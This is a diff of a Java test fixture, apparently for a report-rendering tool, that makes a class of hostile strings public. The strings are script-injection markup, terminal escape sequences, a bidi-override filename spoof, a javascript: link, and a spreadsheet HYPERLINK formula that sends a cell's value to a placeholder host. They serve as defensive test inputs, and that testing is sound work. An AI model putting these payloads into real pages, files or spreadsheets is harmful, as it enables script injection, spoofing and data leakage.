@@ -13,27 +13,29 @@ import loadwalk.bench.Mode;
 import loadwalk.bench.Rating;
 import loadwalk.bench.ReadingId;
 import loadwalk.bench.Supply;
+import loadwalk.report.page.Walks;
 import loadwalk.walk.Event;
 import loadwalk.walk.Intent;
 import loadwalk.walk.WalkState;
 
 /** A walk whose every text means harm. */
-final class Hostile {
-  static final String MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&lt;";
-  static final String STEERING = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\r\n\u2028";
-  static final String TURNING = "\u202egnp.exe\u2066\u200f\ufeff";
-  static final String FORMULA = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"win\")";
-  static final String LINK =
+public final class Hostile {
+  public static final String MARKUP =
+      "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&lt;";
+  public static final String STEERING = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\r\n\u2028";
+  public static final String TURNING = "\u202egnp.exe\u2066\u200f\ufeff";
+  public static final String FORMULA = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"win\")";
+  public static final String LINK =
       "[click](javascript:alert(3)) ![x](http://example.invalid/a.png) `code` | * # @all";
-  static final List<String> ALL = List.of(MARKUP, STEERING, TURNING, FORMULA, LINK);
+  public static final List<String> ALL = List.of(MARKUP, STEERING, TURNING, FORMULA, LINK);
 
   private Hostile() {}
 
-  static WalkState walk() {
+  public static WalkState walk() {
     return walkOf(String.join(" ", ALL));
   }
 
-  static WalkState walkOf(String maker) {
+  public static WalkState walkOf(String maker) {
     String everything = String.join(" ", ALL);
     String long10k = FORMULA + "W".repeat(10_000);
     Amplifier amplifier =
